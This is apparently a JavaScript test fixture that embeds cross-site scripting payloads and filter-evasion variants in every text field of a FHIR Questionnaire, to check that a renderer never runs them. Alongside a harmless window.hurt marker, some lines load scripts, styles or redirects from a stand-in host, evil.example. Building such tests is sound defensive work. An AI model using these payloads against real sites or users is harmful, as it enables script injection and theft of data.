// Words that would be scripts if anything took them for markup, an address or code.

/** What an attacker writes. `window.hurt` is what would show that it ran. */
const SEEDS = [
  "<script>window.hurt=1</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=window.hurt=1>",
  "<img src=//evil.example/x.png>",
  "<svg onload=window.hurt=1>",
  "<svg><script>window.hurt=1</script></svg>",
  "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
  "<svg><foreignObject><iframe src=javascript:parent.hurt=1></iframe></foreignObject></svg>",
  "<svg><use href=data:image/svg+xml,<svg/onload=window.hurt=1>>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>",
  "<iframe src=javascript:parent.hurt=1></iframe>",
  "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
  "<object data=javascript:window.hurt=1></object>",
  "<embed src=javascript:window.hurt=1>",
  "<body onload=window.hurt=1>",
  "<input onfocus=window.hurt=1 autofocus>",
  "<select onfocus=window.hurt=1 autofocus></select>",
  "<textarea onfocus=window.hurt=1 autofocus></textarea>",
  "<details open ontoggle=window.hurt=1>x</details>",
  "<video><source onerror=window.hurt=1></video>",
  "<audio src=x onerror=window.hurt=1>",
  "<marquee onstart=window.hurt=1>x</marquee>",
  "<a href=javascript:window.hurt=1>press</a>",
  "<a href=//evil.example>press</a>",
  "<form action=//evil.example><button>press</button></form>",
  "<button formaction=javascript:window.hurt=1>press</button>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=prefetch href=//evil.example/x>",
  "<style>@import'//evil.example/x.css';*{display:none}</style>",
  "<div style=background:url(//evil.example/x)>x</div>",
  "<template><img src=x onerror=window.hurt=1></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.hurt=1>'>",
  "<xss id=x tabindex=1 onfocus=window.hurt=1></xss>",
  "<what-matters config=//evil.example/config.json></what-matters>",
  "javascript:window.hurt=1",
  "data:text/html,<script>window.hurt=1</script>",
  "[press](javascript:window.hurt=1)",
  "![x](//evil.example/x.png)",
  "{{constructor.constructor('window.hurt=1')()}}",
  "${window.hurt=1}",
  "';window.hurt=1;//",
  "\u2028window.hurt=1\u2029",
];

/** Ways to get past whoever looks for markup. */
const DISGUISES = [
  (seed) => seed,
  (seed) => `"><${seed}`.replace("<<", "<"),
  (seed) => `'>${seed}`,
  (seed) => `--><!-- -->${seed}`,
  (seed) => `</script>${seed}`,
  (seed) => `</textarea></select></title></style>${seed}`,
  (seed) => `]]>${seed}`,
  (seed) => [...seed].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join(""),
  (seed) => seed.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (seed) => seed.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
  (seed) => encodeURIComponent(seed),
  (seed) => seed.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (seed) => seed.replace(/ (?=on|src|href)/, "/"),
];

export const HOSTILE = [...new Set(SEEDS.flatMap((seed) => DISGUISES.map((disguise) => disguise(seed))))];

const EXTENSION = "http://hl7.org/fhir/StructureDefinition/";
const SDC = "http://hl7.org/fhir/uv/sdc/StructureDefinition/";

/** Each place of a questionnaire that takes words, as an item with them there. `n` keeps the link ids apart. */
export const PLACES = [
  (words, n) => ({ linkId: `${n}`, type: "string", text: words }),
  (words, n) => ({ linkId: `${words} ${n}`, type: "string" }),
  (words, n) => ({ linkId: `${n}`, type: "string", text: "prefix", prefix: words }),
  (words, n) => ({ linkId: `${n}`, type: "display", text: words }),
  (words, n) => ({ linkId: `${n}`, type: "group", text: words, item: [{ linkId: `${n}.1`, type: "boolean", text: "in a group" }] }),
  (words, n) => ({ linkId: `${n}`, type: "text", text: "initial", initial: [{ valueString: words }] }),
  (words, n) => ({ linkId: `${n}`, type: "choice", text: "words", answerOption: [{ valueString: words }, { valueString: "b" }] }),
  (words, n) => ({ linkId: `${n}`, type: "choice", text: "display", answerOption: [{ valueCoding: { system: "urn:x", code: "a", display: words } }] }),
  (words, n) => ({ linkId: `${n}`, type: "choice", text: "code", answerOption: [{ valueCoding: { system: words, code: words } }] }),
  (words, n) => ({
    linkId: `${n}`,
    type: "open-choice",
    text: "a list",
    extension: [
      { url: `${EXTENSION}questionnaire-itemControl`, valueCodeableConcept: { coding: [{ system: "http://hl7.org/fhir/questionnaire-item-control", code: "drop-down" }] } },
      { url: `${SDC}sdc-questionnaire-openLabel`, valueString: words },
    ],
    answerOption: [{ valueCoding: { code: "a", display: words } }],
  }),
  (words, n) => ({ linkId: `${n}`, type: "string", text: "format", extension: [{ url: `${EXTENSION}entryFormat`, valueString: words }] }),
  (words, n) => ({ linkId: `${n}`, type: "quantity", text: "unit", extension: [{ url: `${EXTENSION}questionnaire-unitOption`, valueCoding: { system: "urn:x", code: words, display: words } }] }),
  (words, n) => ({ linkId: `${n}`, type: "decimal", text: "unit", extension: [{ url: `${EXTENSION}questionnaire-unit`, valueCoding: { system: "urn:x", code: words, display: words } }] }),
  (words, n) => ({ linkId: `${n}`, type: "string", text: "short", extension: [{ url: `${SDC}sdc-questionnaire-shortText`, valueString: words }] }),
  (words, n) => ({ linkId: `${n}`, type: "string", text: "markdown", _text: { extension: [{ url: `${EXTENSION}rendering-markdown`, valueMarkdown: words }] } }),
  (words, n) => ({ linkId: `${n}`, type: "string", text: "xhtml", _text: { extension: [{ url: `${EXTENSION}rendering-xhtml`, valueString: `<p>${words}</p>` }] } }),
  (words, n) => ({ linkId: `${n}`, type: "string", text: "link", extension: [{ url: `${EXTENSION}questionnaire-supportLink`, valueUri: words }] }),
  (words, n) => ({
    linkId: `${n}`,
    type: "string",
    text: "help",
    item: [
      {
        linkId: `${n}.1`,
        type: "display",
        text: words,
        extension: [{ url: `${EXTENSION}questionnaire-itemControl`, valueCodeableConcept: { coding: [{ system: "http://hl7.org/fhir/questionnaire-item-control", code: "help" }] } }],
      },
    ],
  }),
  (words, n) => ({
    linkId: `${n}`,
    type: "string",
    text: "translated",
    _text: { extension: [{ url: `${EXTENSION}translation`, extension: [{ url: "lang", valueCode: "en-GB" }, { url: "content", valueString: words }] }] },
  }),
];

/** A questionnaire with these items and hostile words of its own. */
export const hostile = (words, item) => ({
  resourceType: "Questionnaire",
  url: "https://elsewhere.example/Questionnaire/hostile",
  version: "1",
  status: "active",
  title: words,
  description: words,
  publisher: words,
  copyright: words,
  item,
});
